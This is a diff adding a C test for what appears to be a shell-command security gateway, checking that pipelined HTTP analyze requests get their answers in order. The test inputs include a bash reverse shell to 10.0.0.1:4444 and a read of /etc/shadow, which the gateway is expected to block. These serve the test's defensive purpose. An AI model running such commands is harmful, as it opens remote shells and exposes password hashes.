@@ -234,6 +234,67 @@ Test(api, keep_alive_serves_many_requests_on_one_connection)
     px_t_conn_close(&c);
 }
 
+/* Responses are written when the loop turn that made them ends (see
+ * px_http_send): requests sent in one write must still get their own
+ * answers, in order, on the same connection. */
+Test(api, pipelined_requests_get_their_answers_in_order)
+{
+    static const struct {
+        const char *cmd; /* NULL: GET /health */
+        int         status;
+        const char *decision;
+    } want[] = {
+        {"ls -la", 200, "Allow"},
+        {"bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", 403, NULL},
+        {NULL, 200, NULL},
+        {"git status", 200, "Allow"},
+        {"cat /etc/shadow", 403, NULL},
+    };
+    enum { N = sizeof(want) / sizeof(want[0]) };
+    px_t_conn c;
+    cr_assert_eq(px_t_conn_open(&c, gw.port), 0);
+    char all[8192];
+    size_t len = 0;
+    for (int i = 0; i < N; i++) {
+        if (want[i].cmd == NULL) {
+            len += (size_t)snprintf(all + len, sizeof(all) - len, "GET /health HTTP/1.1\r\nHost: t\r\n\r\n");
+            continue;
+        }
+        char sid[32];
+        snprintf(sid, sizeof(sid), "s-pipe-%d", i);
+        char *body = px_t_bash_body(want[i].cmd, "u", sid);
+        len += (size_t)snprintf(all + len, sizeof(all) - len,
+                                "POST /analyze HTTP/1.1\r\nHost: t\r\nContent-Type: application/json\r\n"
+                                "Content-Length: %zu\r\n\r\n%s",
+                                strlen(body), body);
+        free(body);
+    }
+    cr_assert_lt(len, sizeof(all));
+    px_t_resp r;
+    cr_assert_eq(px_t_conn_raw(&c, all, len, &r), 0, "no first response");
+    for (int i = 0; i < N; i++) {
+        if (i > 0)
+            cr_assert_eq(px_t_conn_read(&c, &r), 0, "no response %d", i);
+        cr_expect_eq(r.status, want[i].status, "response %d: status %d, body %s", i, r.status, r.body);
+        cJSON *j = px_t_json(&r);
+        cr_assert_not_null(j, "response %d is not JSON: %s", i, r.body);
+        if (want[i].cmd == NULL) {
+            cr_expect_not_null(px_t_json_str(j, "status"), "response %d is not the health report: %s", i, r.body);
+        } else {
+            char sid[32];
+            snprintf(sid, sizeof(sid), "s-pipe-%d", i);
+            cr_expect_str_eq(px_t_json_str(j, "session_id"), sid, "response %d answers another request", i);
+            if (want[i].decision != NULL)
+                cr_expect_str_eq(px_t_json_str(j, "decision"), want[i].decision);
+            else
+                cr_expect_geq(px_t_json_num(j, "threat_score", -1), 70, "response %d: %s", i, r.body);
+        }
+        cJSON_Delete(j);
+        px_t_resp_free(&r);
+    }
+    px_t_conn_close(&c);
+}
+
 Test(api, health_reports_service_mode_and_store)
 {
     px_t_resp r;
